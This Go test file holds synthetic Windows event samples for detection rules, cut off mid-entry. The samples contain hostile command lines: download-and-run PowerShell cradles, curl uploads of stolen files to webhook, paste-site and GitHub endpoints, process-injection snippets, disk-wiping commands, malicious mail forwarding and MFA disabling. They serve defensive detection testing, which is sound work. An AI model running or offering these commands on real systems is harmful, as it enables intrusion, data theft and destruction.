// Samples for the rules in rules/*/c_*.yml: each positive is an event
// written for its rule from the behaviour it describes, each negative a
// benign event of the same kind that the rule must not match.

package detect

func init() {
	rulePositives = append(rulePositives,
		ruleSample{
			ID:      "6476c066-4132-4b8b-b2e5-306f2d799a12", // Unsigned Kernel Driver Loaded
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 6,
			Fields: map[string]string{
				"ImageLoaded":     "C:\\Users\\Public\\hide.sys",
				"Signature":       "",
				"SignatureStatus": "Unavailable",
				"Signed":          "false",
			},
		},
		ruleSample{
			ID:      "e36d7d45-329c-41f2-a31e-56b8d0e30f7e", // Executable Packer Run on the Host
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"CommandLine": "upx.exe -9 C:\\Users\\bob\\AppData\\Local\\Temp\\beacon.exe -o C:\\Users\\bob\\AppData\\Local\\Temp\\svc.exe",
				"Image":       "C:\\Users\\bob\\AppData\\Local\\Temp\\upx.exe",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		ruleSample{
			ID:      "48038a95-b178-4f06-bb9f-5a2e4995971b", // Script Rebuilds Code From Image Pixels
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": "sal a New-Object;Add-Type -A System.Drawing;$g=a System.Drawing.Bitmap(\"C:\\Users\\bob\\cat.png\");$o=a Byte[] 2560;(0..1)|%{foreach($x in(0..1279)){$p=$g.GetPixel($x,$_);$o[$_*1280+$x]=([math]::Floor(($p.B-band15)*16)-bor($p.G -band 15))}};IEX([System.Text.Encoding]::ASCII.GetString($o[0..2400]))",
			},
		},
		ruleSample{
			ID:      "6f0aa96d-fadc-4d1c-b032-5e52c7f3a9b0", // Archive or Executable Appended to an Image With copy /b
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"CommandLine": "cmd.exe /c copy /b C:\\Users\\bob\\Pictures\\holiday.jpg + C:\\Users\\bob\\AppData\\Local\\Temp\\tools.zip C:\\Users\\Public\\holiday2.jpg",
				"Image":       "C:\\Windows\\System32\\cmd.exe",
				"ParentImage": "C:\\Windows\\explorer.exe",
			},
		},
		ruleSample{
			ID:      "3776e24b-a855-4392-9413-1ea3a642992c", // Script Resolves Windows API Addresses at Run Time
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": "$u=[AppDomain]::CurrentDomain.GetAssemblies()|?{$_.Location.EndsWith('System.dll')};$t=$u.GetType('Microsoft.Win32.UnsafeNativeMethods');$gpa=$t.GetMethod('GetProcAddress',[Type[]]@('System.Runtime.InteropServices.HandleRef','string'))",
			},
		},
		ruleSample{
			ID:      "c235bf52-01cf-46f4-9900-76af837ac363", // File Base64- or Hex-Encoded With certutil
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"CommandLine": "certutil.exe -encode C:\\Users\\bob\\AppData\\Local\\Temp\\payload.exe C:\\Users\\bob\\AppData\\Local\\Temp\\payload.txt",
				"Image":       "C:\\Windows\\System32\\certutil.exe",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		ruleSample{
			ID:      "e84ef7b8-599e-402a-8c6a-35936413a07c", // Process Started From a File With a Document or Picture Extension
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"CommandLine": "\"C:\\Users\\bob\\Downloads\\invoice.pdf\"",
				"Image":       "C:\\Users\\bob\\Downloads\\invoice.pdf",
				"ParentImage": "C:\\Windows\\explorer.exe",
			},
		},
		ruleSample{
			ID:      "e84ef7b8-599e-402a-8c6a-35936413a07c", // Process Started From a File With a Document or Picture Extension
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"CommandLine": "rundll32.exe C:\\ProgramData\\logo.png,DllRegisterServer",
				"Image":       "C:\\Windows\\System32\\rundll32.exe",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		ruleSample{
			ID:      "7a3c5226-11b3-4b22-ad6d-721acb793c0d", // Script Suspends a Thread and Rewrites Its Context
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": "[Kernel32]::SuspendThread($hThread); [Kernel32]::GetThreadContext($hThread, [ref]$ctx); $ctx.Rip = $remoteBuf; [Kernel32]::SetThreadContext($hThread, [ref]$ctx); [Kernel32]::ResumeThread($hThread)",
			},
		},
		ruleSample{
			ID:      "098850a0-e7a1-4fc9-995b-f536060caa7e", // Python One-Liner Runs Decoded, Downloaded or Socket-Bound Code
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"CommandLine": "python.exe -c \"import base64;exec(base64.b64decode('aW1wb3J0IHNvY2tldA=='))\"",
				"Image":       "C:\\Python311\\python.exe",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		ruleSample{
			ID:      "f4f5280e-9c5a-4e20-8033-a46aa71e50be", // Mailbox Export Requests or Mailbox Content Removed From Exchange
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": "Get-MailboxExportRequest -Status Completed | Remove-MailboxExportRequest -Confirm:$false",
			},
		},
		ruleSample{
			ID:      "aa86c3da-dd5f-4e13-b755-069a07c575ee", // Files Copied From a Remote Share to the Local Host
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"CommandLine": "cmd.exe /c copy \\\\fs01\\finance$\\payroll_2026.xlsx %TEMP%\\p.xlsx",
				"Image":       "C:\\Windows\\System32\\cmd.exe",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		ruleSample{
			ID:      "aa86c3da-dd5f-4e13-b755-069a07c575ee", // Files Copied From a Remote Share to the Local Host
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"CommandLine": "powershell.exe copy-item -Path \"\\\\127.0.0.1\\C$\\Windows\\temp\\Easter_Bunny.password\" -Destination \"$Env:TEMP\\Easter_egg.password\"",
				"Image":       "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		ruleSample{
			ID:      "ca69352b-43f4-4bff-a2fc-1ca491dbed50", // Autostart Entry Deleted From the Command Line
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"CommandLine": "reg.exe delete HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v Updater /f",
				"Image":       "C:\\Windows\\System32\\reg.exe",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		ruleSample{
			ID:      "7f0e3d2c-a2fc-4393-a41d-3d0b9c6826d8", // Documents Gathered Into a Temp or Public Staging Folder
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"CommandLine": "robocopy.exe C:\\Users\\alice\\Documents C:\\Users\\Public\\cache *.docx *.xlsx *.pdf /S",
				"Image":       "C:\\Windows\\System32\\Robocopy.exe",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		ruleSample{
			ID:      "78fd3dea-85b7-40a4-9c7d-a5ea917a03e5", // Device Joined or Registered to Entra ID With AADInternals
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": "Join-AADIntDeviceToAzureAD -DeviceName \"WS-SPARE-07\" -DeviceType \"Commodore\" -OSVersion \"C64\"",
			},
		},
		ruleSample{
			ID:      "583a8073-6eea-4795-9760-107313cf44b7", // Telegram Bot API Called From a Command Line
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"CommandLine": "powershell.exe -nop -c \"$u='https://api.telegram.org/bot6012345678:AAH/getUpdates'; iex (irm $u).result[-1].message.text\"",
				"Image":       "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		ruleSample{
			ID:      "405dae7d-f199-4998-bd97-cc6602cf189b", // Telegram Bot API Resolved by a Script Host or Shell
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 22,
			Fields: map[string]string{
				"Image":     "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
				"QueryName": "api.telegram.org",
			},
		},
		ruleSample{
			ID:      "c1e8655b-160c-4e36-8959-6b3df6176c26", // Mailbox Rule or Setting Forwards Mail Elsewhere
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": "New-InboxRule -Mailbox cfo@contoso.com -Name \"sync\" -From * -ForwardTo attacker@proton.me",
			},
		},
		ruleSample{
			ID:      "f8f449eb-5e1f-4565-8b76-67de67898ec0", // Inbox Rule Deletes Mail or Hides It in a Rarely-Read Folder
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": "New-InboxRule -Mailbox cfo@contoso.com -Name \".\" -SubjectContainsWords \"invoice\",\"payment\",\"suspicious\" -MoveToFolder \"cfo:\\RSS Feeds\" -MarkAsRead $true",
			},
		},
		ruleSample{
			ID:      "62280bbe-8d43-424c-a141-2ceceb60b517", // Script Searches the Disk for Documents and Copies or Archives Them
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": "Get-ChildItem -Path C:\\Users -Recurse -Include *.docx,*.xlsx,*.pdf -ErrorAction SilentlyContinue | Copy-Item -Destination $env:TEMP\\c",
			},
		},
		ruleSample{
			ID:      "61bde928-ccaa-4052-a0fe-df479c3dc2c0", // cmd for /r Loop Copies Documents
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"CommandLine": "cmd.exe /c for /R C:\\Users\\ %f in (*.docx *.pdf) do copy \"%f\" C:\\ProgramData\\c\\ ",
				"Image":       "C:\\Windows\\System32\\cmd.exe",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		ruleSample{
			ID:      "b37904e5-8347-41ad-b3db-136e216123b1", // ClickOnce Application Launched Through dfshim
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"CommandLine": "rundll32.exe dfshim.dll,ShOpenVerbApplication http://203.0.113.9/app/Updater.application",
				"Image":       "C:\\Windows\\System32\\rundll32.exe",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		ruleSample{
			ID:      "acca0a6d-f2be-4f84-95ef-1173d7c038c7", // Browser Started With a Remote Debugging Port by Another Program
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"CommandLine": "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" --headless --remote-debugging-port=9222 --user-data-dir=\"C:\\Users\\bob\\AppData\\Local\\Google\\Chrome\\User Data\"",
				"Image":       "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
				"ParentImage": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
			},
		},
		ruleSample{
			ID:      "29c8a2bb-71f1-41a3-be81-a16d13953807", // Authentication Coercion Tool Run (PetitPotam, PrinterBug, DFSCoerce)
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"CommandLine": "PetitPotam.exe 10.0.0.66 10.0.0.10",
				"Image":       "C:\\Users\\bob\\Desktop\\PetitPotam.exe",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		ruleSample{
			ID:      "29c8a2bb-71f1-41a3-be81-a16d13953807", // Authentication Coercion Tool Run (PetitPotam, PrinterBug, DFSCoerce)
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"CommandLine": "python.exe printerbug.py corp/bob@dc01.corp.local 10.0.0.66",
				"Image":       "C:\\Python311\\python.exe",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		ruleSample{
			ID:      "75c2e695-58ef-4238-8797-19c6e2b39f67", // Shell Command File (.scf) Written
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 11,
			Fields: map[string]string{
				"Image":          "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
				"TargetFilename": "\\\\fs01\\public\\@readme.scf",
			},
		},
		ruleSample{
			ID:      "d5c46a4a-96e4-4b28-9c7e-81bf6e272c98", // Run Dialog Used to Start a Downloading or Hidden Command (ClickFix)
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 13,
			Fields: map[string]string{
				"Details":      "powershell -w h -c \"iex(irm https://check-human.example/v)\" # I am not a robot\\1",
				"EventType":    "SetValue",
				"Image":        "C:\\Windows\\explorer.exe",
				"TargetObject": "HKU\\S-1-5-21-1-2-3-1001\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RunMRU\\a",
			},
		},
		ruleSample{
			ID:      "7984af3e-f8e6-4315-b87c-8b84af0f493d", // Cryptocurrency Miner Started
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"CommandLine": "C:\\ProgramData\\Intel\\svchost.exe -o stratum+tcp://pool.minexmr.example:4444 -u 44AFFq5kSiGBoZ -p x --donate-level 1 --background",
				"Image":       "C:\\ProgramData\\Intel\\svchost.exe",
				"ParentImage": "C:\\Windows\\System32\\svchost.exe",
			},
		},
		ruleSample{
			ID:      "8aba038e-be79-49c8-9267-4b08c462fc41", // PowerShell Command History File Read From the Command Line
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"CommandLine": "cmd.exe /c type C:\\Users\\admin\\AppData\\Roaming\\Microsoft\\Windows\\PowerShell\\PSReadLine\\ConsoleHost_history.txt",
				"Image":       "C:\\Windows\\System32\\cmd.exe",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		ruleSample{
			ID:      "73eb47db-a198-416d-bece-f299fb8827b9", // Script Reads PowerShell Command History
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": "Get-ChildItem C:\\Users\\*\\AppData\\Roaming\\Microsoft\\Windows\\PowerShell\\PSReadLine\\ConsoleHost_history.txt | ForEach-Object { Get-Content $_ | Select-String -Pattern \"password|secret|key\" }",
			},
		},
		ruleSample{
			ID:      "af115146-c8cc-494a-90e8-a328a51f1767", // Self-Signed Code-Signing Certificate Made and Used to Sign Code
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": "$c = New-SelfSignedCertificate -Type CodeSigningCert -Subject \"CN=Microsoft Windows\" -CertStoreLocation Cert:\\CurrentUser\\My; Set-AuthenticodeSignature -FilePath C:\\ProgramData\\svc.ps1 -Certificate $c",
			},
		},
		ruleSample{
			ID:      "a9baf33e-6255-4a4a-ac10-27e934eb2f5d", // Signature Verification Provider (SIP or Trust Provider) Registered
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 13,
			Fields: map[string]string{
				"Details":      "C:\\Users\\Public\\sip.dll",
				"EventType":    "SetValue",
				"Image":        "C:\\Windows\\System32\\reg.exe",
				"TargetObject": "HKLM\\SOFTWARE\\Microsoft\\Cryptography\\OID\\EncodingType 0\\CryptSIPDllVerifyIndirectData\\{C689AAB8-8E78-11D0-8C47-00C04FC295EE}\\Dll",
			},
		},
		ruleSample{
			ID:      "a9baf33e-6255-4a4a-ac10-27e934eb2f5d", // Signature Verification Provider (SIP or Trust Provider) Registered
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 13,
			Fields: map[string]string{
				"Details":      "C:\\Users\\bob\\AppData\\Local\\Temp\\GTSIPProvider.dll",
				"EventType":    "SetValue",
				"Image":        "C:\\Windows\\System32\\regsvr32.exe",
				"TargetObject": "HKLM\\SOFTWARE\\Microsoft\\Cryptography\\OID\\EncodingType 0\\CryptSIPDllGetSignedDataMsg\\{000C10F1-0000-0000-C000-000000000046}\\Dll",
			},
		},
		ruleSample{
			ID:      "199d9ddb-a674-48b5-a4eb-133565ed3660", // Driver Signature Enforcement Relaxed With bcdedit
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"CommandLine": "bcdedit.exe /set testsigning on",
				"Image":       "C:\\Windows\\System32\\bcdedit.exe",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		ruleSample{
			ID:      "d07cffa8-c8f6-43c5-b542-2733eee1bb08", // Driver Signing Policy Set to Ignore Unsigned Drivers
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 13,
			Fields: map[string]string{
				"Details":      "DWORD (0x00000000)",
				"EventType":    "SetValue",
				"Image":        "C:\\Windows\\System32\\reg.exe",
				"TargetObject": "HKU\\S-1-5-21-1-2-3-1001\\Software\\Policies\\Microsoft\\Windows NT\\Driver Signing\\BehaviorOnFailedVerify",
			},
		},
		ruleSample{
			ID:      "29c4fa57-70bc-4614-8b74-b510b25fe658", // Pass-Through Authentication Agent Hooked With AADInternals
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": "Import-Module AADInternals; Install-AADIntPTASpy",
			},
		},
		ruleSample{
			ID:      "819a8df6-623b-4b2d-86f2-49ab2c755ba1", // Script Builds an Archive Through the .NET Compression Library
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": "Add-Type -Assembly System.IO.Compression.FileSystem; [System.IO.Compression.ZipFile]::CreateFromDirectory(\"$env:TEMP\\c\", \"$env:TEMP\\c.zip\")",
			},
		},
		ruleSample{
			ID:      "c854f88e-e276-4411-9ec0-0ac9a712383e", // Disk or Volume Content Overwritten (format /p, diskpart clean all)
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"CommandLine": "cmd.exe /c \"(echo select disk 1 & echo clean all) | diskpart\"",
				"Image":       "C:\\Windows\\System32\\cmd.exe",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		ruleSample{
			ID:      "93838c4f-c8cd-4746-a94a-bf9613035e69", // Script Opens a Physical Drive for Writing
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": "$fs = New-Object IO.FileStream(\"\\\\.\\PhysicalDrive0\", [IO.FileMode]::Open, [IO.FileAccess]::ReadWrite); $fs.Write((New-Object byte[] 512), 0, 512); $fs.Close()",
			},
		},
		ruleSample{
			ID:      "ba101332-a757-4853-933e-208cc823f9dc", // Virtual Machine Started Headless or From a Script, or Portable VirtualBox Registered
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"CommandLine": "\"C:\\Program Files\\Oracle\\VirtualBox\\VBoxManage.exe\" startvm micro --type headless",
				"Image":       "C:\\Program Files\\Oracle\\VirtualBox\\VBoxManage.exe",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		ruleSample{
			ID:      "ba101332-a757-4853-933e-208cc823f9dc", // Virtual Machine Started Headless or From a Script, or Portable VirtualBox Registered
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"CommandLine": "\"C:\\ProgramData\\vb\\VBoxSVC.exe\" /reregserver",
				"Image":       "C:\\ProgramData\\vb\\VBoxSVC.exe",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		ruleSample{
			ID:      "fda0a2ba-41c6-4b51-a61d-92bbd626f004", // Data Sent to a Chat or Request-Catcher Webhook (Command Line)
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"CommandLine": "curl.exe -F \"file=@C:\\Users\\bob\\AppData\\Local\\Temp\\loot.zip\" https://discord.com/api/webhooks/1122334455/AbCdEf",
				"Image":       "C:\\Windows\\System32\\curl.exe",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		ruleSample{
			ID:      "6a6342b3-7a29-417a-958e-bba77ced00ef", // Data Sent to a Chat or Request-Catcher Webhook (Script Block)
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": "Invoke-RestMethod -Uri \"https://hooks.slack.com/services/T000/B000/XXXX\" -Method Post -Body (@{text=(Get-Content $env:TEMP\\creds.txt -Raw)} | ConvertTo-Json)",
			},
		},
		ruleSample{
			ID:      "76a14753-1c48-4ad4-a5d5-b01a24de69f9", // Data Posted to a Paste Site API (Command Line)
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"CommandLine": "curl.exe -d \"api_dev_key=abc&api_option=paste&api_paste_code=@C:\\Users\\bob\\pw.txt\" https://pastebin.com/api/api_post.php",
				"Image":       "C:\\Windows\\System32\\curl.exe",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		ruleSample{
			ID:      "b45d34e5-356c-4abf-8d6b-0f2c0fe5af0b", // Data Posted to a Paste Site API (Script Block)
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": "Invoke-WebRequest -Uri https://pastebin.com/api/api_post.php -Method Post -Body @{api_dev_key=$k; api_option=\"paste\"; api_paste_code=(Get-Content $env:TEMP\\out.txt -Raw)}",
			},
		},
		ruleSample{
			ID:      "fcd2968e-dfa1-4eb1-bc51-1253f29bb201", // File Uploaded to a Code Repository Through the GitHub or GitLab API (Command Line)
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"CommandLine": "curl.exe -X PUT -H \"Authorization: token ghp_x\" -d @C:\\Users\\bob\\AppData\\Local\\Temp\\b64.json https://api.github.com/repos/xx/yy/contents/data/host1.txt",
				"Image":       "C:\\Windows\\System32\\curl.exe",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		ruleSample{
			ID:      "cb371782-46f8-4f2c-b3e7-d41bced24d74", // File Uploaded to a Code Repository Through the GitHub or GitLab API (Script Block)
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": "Invoke-RestMethod -Method Put -Uri \"https://api.github.com/repos/xx/yy/contents/$env:COMPUTERNAME.txt\" -Headers @{Authorization=\"token $t\"} -Body (@{message=\"u\";content=$b64}|ConvertTo-Json)",
			},
		},
		ruleSample{
			ID:      "c5d04cf1-27d0-4387-9d94-9d2649910306", // Loopback Ping or Timeout Used to Delay a Chained Command
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"CommandLine": "cmd.exe /c ping -n 5 127.0.0.1 > nul & del /f /q \"C:\\Users\\bob\\AppData\\Local\\Temp\\dropper.exe\"",
				"Image":       "C:\\Windows\\System32\\cmd.exe",
				"ParentImage": "C:\\Users\\bob\\AppData\\Local\\Temp\\dropper.exe",
			},
		},
		ruleSample{
			ID:      "58c13110-fc06-4600-b274-e054fe283805", // Web Browser Starts a Script Host or LOLBin
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"CommandLine": "\"C:\\Windows\\System32\\mshta.exe\" https://shared-docs.example/view.hta",
				"Image":       "C:\\Windows\\System32\\mshta.exe",
				"ParentImage": "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
			},
		},
		ruleSample{
			ID:      "011d9d59-2112-44a6-b06f-12edc3035e27", // Script Writes Extra Window Memory of Another Window
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": "$h=[W]::FindWindow(\"Shell_TrayWnd\",$null); $o=[W]::GetWindowLongPtr($h,0); [W]::WriteProcessMemory($p,$buf,$sc,$sc.Length,[ref]0); [W]::SetWindowLongPtr($h,0,$ptr); [W]::SendNotifyMessage($h,0x506,0,0)",
			},
		},
		ruleSample{
			ID:      "899c4c3a-6834-4b10-aee8-daae5f949b71", // Script Abuses a List-View Control to Run Code (ListPlanting)
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": "$lv=[W]::FindWindowEx($parent,0,\"SysListView32\",$null); $m=[W]::VirtualAllocEx($hp,0,$sc.Length,0x3000,0x40); [W]::WriteProcessMemory($hp,$m,$sc,$sc.Length,[ref]0); [W]::PostMessage($lv,0x1030,$m,0)",
			},
		},
		ruleSample{
			ID:      "76818ef4-d41f-4f9b-b517-67e9d3a51074", // Windows Installer Runs a Downloading or Encoded Script
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"CommandLine": "powershell.exe -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.5/a.ps1')\"",
				"Image":       "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
				"ParentImage": "C:\\Windows\\System32\\msiexec.exe",
			},
		},
		ruleSample{
			ID:      "b45a069a-deed-41e6-a0a6-ef2d9e282c58", // Office Dynamic Data Exchange Re-Enabled in the Registry
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 13,
			Fields: map[string]string{
				"Details":      "DWORD (0x00000002)",
				"EventType":    "SetValue",
				"Image":        "C:\\Windows\\System32\\reg.exe",
				"TargetObject": "HKU\\S-1-5-21-1-2-3-1001\\Software\\Microsoft\\Office\\16.0\\Word\\Security\\AllowDDE",
			},
		},
		ruleSample{
			ID:      "786ad6dc-f7da-4470-87d7-d0f20b152d30", // Script Checks for User Input Before Running
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": "$p1=[Windows.Forms.Cursor]::Position; Start-Sleep -Seconds 30; $p2=[Windows.Forms.Cursor]::Position; if ($p1 -eq $p2) { exit }; IEX $stage2",
			},
		},
		ruleSample{
			ID:      "d9675785-c3af-41cf-979e-78793451d626", // HTTP Request Sent With a Host Header Different From Its URL (Domain Fronting)
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"CommandLine": "C:\\Windows\\System32\\curl.exe -H \"Host: a0.awsstatic.com\" \"https://d0.awsstatic.com/dfsdfsd\"",
				"Image":       "C:\\Windows\\System32\\curl.exe",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		ruleSample{
			ID:      "4540cfeb-4889-4251-883e-1f79b72f8bb3", // Mailboxes Searched Remotely Through Exchange Web Services
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": "Invoke-GlobalMailSearch -ImpersonationAccount svc-ews -ExchHostname mail.contoso.com -OutputCsv C:\\Users\\Public\\mails.csv -Terms \"*password*\",\"*vpn*\"",
			},
		},
		ruleSample{
			ID:      "9bf9590e-1d85-4a81-b43f-f4710a287064", // Bandwidth-Sharing (Proxyware) Client Started
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"CommandLine": "C:\\ProgramData\\pawns\\pawns-cli.exe -email=x@y.example -password=p -device-name=ws01 -accept-tos",
				"Image":       "C:\\ProgramData\\pawns\\pawns-cli.exe",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		ruleSample{
			ID:      "06214f3f-541b-4683-9a3e-ef88000e273f", // User MFA Settings Changed With AADInternals
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": "Set-AADIntUserMFA -AccessToken $at -UserPrincipalName cfo@contoso.com -State Disabled",
			},
		},
		ruleSample{
			ID:      "11fbfb27-ed75-4b6b-a6bf-8b1bf5d5876a", // Script Reads or Rewrites the KernelCallbackTable of a Process
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": "$peb=[Marshal]::PtrToStructure($pbi.PebBaseAddress,[type][PEB]); $kct=$peb.KernelCallbackTable; [W]::WriteProcessMemory($hp,$newTable,$tbl,$tbl.Length,[ref]0)",
			},
		},
		ruleSample{
			ID:      "aacad6e0-587b-4f99-824a-9d231fd5912a", // Browser Saves an Executable or Container Built in the Page (HTML Smuggling)
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 15,
			Fields: map[string]string{
				"Contents":       "[ZoneTransfer]  ZoneId=3  HostUrl=about:internet  ",
				"Image":          "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
				"TargetFilename": "C:\\Users\\bob\\Downloads\\Invoice_0412.iso:Zone.Identifier",
			},
		},
		ruleSample{
			ID:      "5fdd29ec-1dd6-4d1f-8884-0efd26eda2fc", // Credential API Hooking Tool Run (NetRipper)
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"CommandLine": "NetRipper.exe -w DLL.dll -l TEMP -p true -d 4096 -s user,pass",
				"Image":       "C:\\Users\\bob\\Desktop\\NetRipper.exe",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		ruleSample{
			ID:      "929b6a03-9ad7-48cb-8e77-2c5d8d1641e4", // Lua Interpreter Runs Inline Code That Starts Commands
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
